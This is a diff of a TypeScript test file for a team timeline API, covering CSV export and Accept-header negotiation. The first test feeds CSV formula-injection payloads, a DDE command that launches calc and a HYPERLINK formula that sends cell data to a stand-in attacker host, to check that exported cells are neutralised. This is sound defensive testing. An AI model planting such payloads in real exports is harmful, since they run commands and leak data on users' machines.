@@ -1,17 +1,17 @@
 import Papa from "papaparse";
 import { afterEach, expect, test } from "vitest";
 import { mintTeam } from "../support/team.ts";
-import { ask, beat, did, realClock } from "./day.ts";
+import { reportEvent, reportStatus, requestTimeline, useRealClock } from "./client.ts";
 
-afterEach(realClock);
+afterEach(useRealClock);
 
-test("a timeline comes as a table too, in which no cell is a formula", async () => {
+test("A timeline is available as CSV, in which no cell is a formula", async () => {
   const team = await mintTeam();
-  await beat(team, "2027-06-01T09:00:00Z", "=1+1", { details: { a: '=cmd|" /C calc"!A0' }, source: "@chat" });
-  await did(team, "2027-06-01T09:05:00Z", '=HYPERLINK("https://evil.test/?x="&A1,"click")', {
+  await reportStatus(team, "2027-06-01T09:00:00Z", "=1+1", { details: { a: '=cmd|" /C calc"!A0' }, source: "@chat" });
+  await reportEvent(team, "2027-06-01T09:05:00Z", '=HYPERLINK("https://evil.test/?x="&A1,"click")', {
     ...{ scope: "-2+3\n=4", kind: "+1", externalId: "@SUM(1)", url: "https://x.test/?a=1,2" },
   });
-  const response = await ask(team, "ada?date=2027-06-01", { Accept: "text/csv" });
+  const response = await requestTimeline(team, "ada?date=2027-06-01", { Accept: "text/csv" });
   expect(response.status).toBe(200);
   expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
   expect(response.headers.get("Vary")).toMatch(/\baccept\b/i);
@@ -41,10 +41,10 @@ test("a timeline comes as a table too, in which no cell is a formula", async () 
   ]);
 });
 
-test("an empty day is a table without rows", async () => {
+test("An empty day is CSV with the header row alone", async () => {
   const team = await mintTeam();
-  await beat(team, "2027-06-01T09:00:00Z", "online");
-  const response = await ask(team, "ada?date=2027-05-01", { Accept: "text/csv" });
+  await reportStatus(team, "2027-06-01T09:00:00Z", "online");
+  const response = await requestTimeline(team, "ada?date=2027-05-01", { Accept: "text/csv" });
   expect((await response.text()).trim().split("\r\n")).toEqual([expect.stringMatching(/^type,local_time,/)]);
 });
 
@@ -59,20 +59,20 @@ test.each([
   ["text/html, application/xhtml+xml, */*;q=0.8", "application/json"],
   ["*/*", "application/json"],
   ["", "application/json"],
-])("Accept: %s is answered as %s", async (accept, type) => {
+])("A request with Accept: %s is answered with %s", async (accept, type) => {
   const team = await mintTeam();
-  await beat(team, "2027-06-01T09:00:00Z", "online");
-  const response = await ask(team, "ada", { Accept: accept });
+  await reportStatus(team, "2027-06-01T09:00:00Z", "online");
+  const response = await requestTimeline(team, "ada", { Accept: accept });
   expect(response.headers.get("Content-Type")).toBe(type);
   await response.body?.cancel();
 });
 
 test.each(["text/html", "application/xml, image/*", "text/csv;q=0, application/json;q=0"])(
-  "Accept: %s leaves nothing to answer in",
+  "A request with Accept: %s is refused with 406",
   async (accept) => {
     const team = await mintTeam();
-    await beat(team, "2027-06-01T09:00:00Z", "online");
-    const response = await ask(team, "ada", { Accept: accept });
+    await reportStatus(team, "2027-06-01T09:00:00Z", "online");
+    const response = await requestTimeline(team, "ada", { Accept: accept });
     expect(response.status).toBe(406);
     expect(await response.json()).toMatchObject({ success: false, code: "not_acceptable" });
   },
